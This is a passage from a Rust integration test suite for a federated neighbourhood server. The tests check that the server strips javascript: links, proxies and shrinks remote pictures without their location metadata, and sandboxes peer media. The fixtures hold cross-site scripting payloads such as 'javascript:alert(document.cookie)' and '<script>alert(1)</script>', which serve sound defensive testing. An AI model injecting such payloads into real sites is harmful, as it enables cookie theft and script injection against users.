    let create = json!({"id": format!("{event_id}/create"), "type": "Create", "actor": sender.ap_id,
        "to": ["https://www.w3.org/ns/activitystreams#Public"],
        "object": {"id": event_id, "type": "Event", "name": "Soep online", "attributedTo": sender.ap_id, "startTime": starts,
                   "to": ["https://www.w3.org/ns/activitystreams#Public"], "content": "<p>Doe mee</p>",
                   "url": "javascript:alert(document.cookie)",
                   "location": {"type": "VirtualLocation", "url": "javascript:alert(document.cookie)"}}});
    let inbox = format!("{}/inbox", node.base_url());
    assert_eq!(post_signed(&inbox, &serde_json::to_vec(&create)?, Some(&signer_of(&sender)), None).await?, 202);
    let post = eventually("the event arrives", || async { node.post(&event_id).await }).await?;
    assert!(post.url.as_deref().is_none_or(|u| u.starts_with("http")), "the post's page: {:?}", post.url);
    let page = PageVisitor::new(&node.base_url())?.get(&format!("/bericht/{}", post.id)).await?;
    assert!(!page.body.to_lowercase().contains("javascript:"), "no script link on the event's page");

    let mut profile: serde_json::Value =
        reqwest::Client::new().get(&sender.ap_id).header("accept", "application/activity+json").send().await?.json().await?;
    profile["url"] = json!("javascript:alert(1)");
    let update = json!({"id": format!("{}#update-url", sender.ap_id), "type": "Update", "actor": sender.ap_id, "object": profile});
    assert_eq!(post_signed(&inbox, &serde_json::to_vec(&update)?, Some(&signer_of(&sender)), None).await?, 202);
    let held = node.actor(&sender.ap_id).await?.expect("known");
    assert!(held.url.as_deref().is_none_or(|u| u.starts_with("http")), "the profile's page: {:?}", held.url);
    Ok(())
}

/// A member of a node who follows a member of a peer, and a third server that holds the
/// peer's files (the peer node is kept so that it keeps answering).
struct ReaderOfAPeer {
    node: TestNode,
    _peer: TestNode,
    sender: Actor,
    host: HostilePeer,
}

async fn a_reader_of_a_peer(backend: Backend) -> Result<ReaderOfAPeer> {
    let node = TestNode::start(backend).await?;
    let peer = TestNode::start(backend).await?;
    let reader = node.add_member("sanne", None).await?;
    let sender = peer.add_member("afzender", None).await?;
    node.follow_and_wait(&reader, &sender.ap_id).await?;
    Ok(ReaderOfAPeer { node, _peer: peer, sender, host: HostilePeer::start().await? })
}

impl ReaderOfAPeer {
    /// The sender's public note `path` with `attachment`, delivered to the node's inbox; the
    /// post once it has arrived.
    async fn deliver_note(&self, path: &str, content: &str, attachment: serde_json::Value) -> Result<buurtnet_domain::model::Post> {
        let sender = &self.sender;
        let note = format!("{}/{path}", sender.ap_id);
        let create = json!({"id": format!("{note}/create"), "type": "Create", "actor": sender.ap_id,
            "to": ["https://www.w3.org/ns/activitystreams#Public"],
            "object": {"id": note, "type": "Note", "attributedTo": sender.ap_id, "to": ["https://www.w3.org/ns/activitystreams#Public"],
                       "content": content, "published": "2026-12-06T10:00:00Z", "attachment": attachment}});
        let inbox = format!("{}/inbox", self.node.base_url());
        assert_eq!(post_signed(&inbox, &serde_json::to_vec(&create)?, Some(&signer_of(sender)), None).await?, 202);
        eventually("the post arrives", || async { self.node.post(&note).await }).await
    }
}

/// A peer's post with a picture held on yet another server: a resident reading it must not
/// tell that server what she reads. The page shows the picture through the node (fetched
/// once, made smaller, metadata gone), the page's policy allows images only from the node,
/// and forms only to it.
async fn pictures_from_peers_are_shown_through_the_node(backend: Backend) -> Result<()> {
    let a_reader = a_reader_of_a_peer(backend).await?;
    let (node, host) = (&a_reader.node, &a_reader.host);
    const SECRET: &[u8] = b"GPS-51.9225-4.4792-GAFFELSTRAAT-iPhone15";
    let big = image::DynamicImage::ImageRgb8(image::RgbImage::from_pixel(3000, 2000, image::Rgb([10, 200, 90])));
    host.serve("/plaatje.png", "image/png", png_of(big, SECRET)?);
    let picture = format!("{}/plaatje.png", host.base_url());
    let attachment = json!([{"type": "Document", "mediaType": "image/png", "url": picture, "name": "Een moestuin"}]);
    let post = a_reader.deliver_note("met-plaatje", "<p>De moestuin</p>", attachment).await?;

    let page = PageVisitor::new(&node.base_url())?.get(&format!("/bericht/{}", post.id)).await?;
    assert!(!page.body.contains(&picture), "the page does not send the reader's browser to the picture's server");
    let shown = page.body.split("src=\"").filter_map(|r| r.split('"').next()).find(|src| src.contains("/media/remote/"));
    let shown = shown.ok_or_else(|| anyhow::anyhow!("the picture is shown through the node: {}", page.body))?.to_string();
    let policy = page.headers.get("content-security-policy").and_then(|v| v.to_str().ok()).unwrap_or_default().to_string();
    assert!(policy.contains("img-src 'self' data:;") && !policy.contains("https:"), "{policy}");
    assert!(policy.contains("form-action 'self'"), "{policy}");

    for _ in 0..3 {
        let served = reqwest::get(&shown).await?.error_for_status()?.bytes().await?;
        let image = image::load_from_memory(&served)?;
        assert!(image.width() <= 1600 && image.height() <= 1600, "made smaller: {}x{}", image.width(), image.height());
        assert!(!served.windows(SECRET.len()).any(|w| w == SECRET), "without its metadata");
    }
    let asked = host.received().iter().filter(|r| r.uri.path() == "/plaatje.png").count();
    assert_eq!(asked, 1, "fetched once for all readers, then kept");
    let guessed = format!("{}-{}", shown.rsplit_once('-').map(|(start, _)| start).unwrap_or_default(), "0".repeat(24));
    assert_eq!(reqwest::get(&guessed).await?.status(), 404, "the address cannot be guessed from the number");
    Ok(())
}

/// A peer's post with a video, a sound and a text file: the page shows a player for the video
/// and the sound, each loading through the node only when pressed (no picture that cannot
/// show), and a link named after the text file. The node passes the video on as it is, with
/// the media type it names and a policy under which nothing in it runs.
async fn video_audio_and_other_files_from_peers_are_players_and_links(backend: Backend) -> Result<()> {
    let a_reader = a_reader_of_a_peer(backend).await?;
    let (node, host) = (&a_reader.node, &a_reader.host);
    const VIDEO: &[u8] = b"\x00\x00\x00\x18ftypmp42 not really a film";
    host.serve("/koe.mp4", "video/mp4", VIDEO.to_vec());
    host.serve("/boe.mp3", "audio/mpeg", b"ID3 not really a sound".to_vec());
    host.serve("/notities.txt", "text/plain", b"<script>alert(1)</script>".to_vec());
    let file = |name: &str| format!("{}/{name}", host.base_url());
    let attachment = json!([
        {"type": "Video", "mediaType": "video/mp4", "url": file("koe.mp4"), "name": "Een koe die graast"},
        {"type": "Audio", "mediaType": "audio/mpeg", "url": file("boe.mp3"), "name": "Het loeien van de koe"},
        {"type": "Document", "mediaType": "text/plain", "url": file("notities.txt")},
    ]);
    let post = a_reader.deliver_note("met-film", "<p>De koe</p>", attachment).await?;

    let page = PageVisitor::new(&node.base_url())?.get(&format!("/bericht/{}", post.id)).await?;
    let body = &page.body;
    assert!(body.contains("<video controls preload=\"none\" src=\""), "a player for the video: {body}");
    assert!(body.contains("<audio controls preload=\"none\" src=\""), "a player for the sound: {body}");
    let pictures_of_attachments =
        body.split("<img").skip(1).filter(|tag| tag.split('>').next().unwrap_or_default().contains("/media/remote/"));
    assert_eq!(pictures_of_attachments.count(), 0, "no picture for what is not one: {body}");
    let link = format!("<a href=\"{}\" rel=\"nofollow noopener noreferrer\">", file("notities.txt"));
    assert!(
        body.contains(&format!("{link}Bijlage: notities.txt</a>")) || body.contains(&format!("{link}Attachment: notities.txt</a>")),
        "a link to the text file, named after it: {body}"
    );
    assert!(!body.contains(&file("koe.mp4")) && !body.contains(&file("boe.mp3")), "the players do not send the browser to the peer");
    let policy = page.headers.get("content-security-policy").and_then(|v| v.to_str().ok()).unwrap_or_default().to_string();
    assert!(policy.contains("media-src 'self';") && !policy.contains("https:"), "{policy}");

    let src =
        body.split("<video controls preload=\"none\" src=\"").nth(1).and_then(|r| r.split('"').next()).unwrap_or_default().to_string();
    assert!(src.contains("/media/remote/"), "the video comes through the node: {src}");
    for _ in 0..2 {
        let served = reqwest::get(&src).await?.error_for_status()?;
        let header = |name: &str| served.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_string();
        assert_eq!(header("content-type"), "video/mp4");
        assert!(header("content-security-policy").contains("sandbox"), "nothing in it runs");
        assert_eq!(served.bytes().await?.as_ref(), VIDEO, "passed on as it is");
    }
    assert_eq!(host.received().iter().filter(|r| r.uri.path() == "/koe.mp4").count(), 1, "fetched once, then kept");
    assert_eq!(host.received().iter().filter(|r| r.uri.path() == "/notities.txt").count(), 0, "the text file is only linked to");
    Ok(())
}

buurtnet_tests::on_both_backends!(
    pictures_from_peers_are_shown_through_the_node,
    video_audio_and_other_files_from_peers_are_players_and_links,
    links_are_web_addresses_only,
    streaming_is_capped_per_connection_and_per_address,
    no_picture_keeps_its_hidden_metadata,
    a_huge_webfinger_answer_is_never_read_into_memory,
    slow_clients_are_cut_off_and_the_node_keeps_answering,
    hostile_html_neither_stalls_the_node_nor_takes_long,
    guessing_a_password_slows_the_guesser_and_never_locks_out_the_owner,
    coalition_posts_are_for_member_nodes_not_their_other_accounts,
    going_back_never_leaves_the_site,
    a_failing_signature_neither_stores_nor_refetches_its_actor,
    a_replayed_signature_with_a_second_digest_is_refused,
    a_signature_made_for_another_server_is_refused,
    a_key_named_only_in_an_update_is_not_taken,
    a_signed_get_for_another_server_is_refused,
);
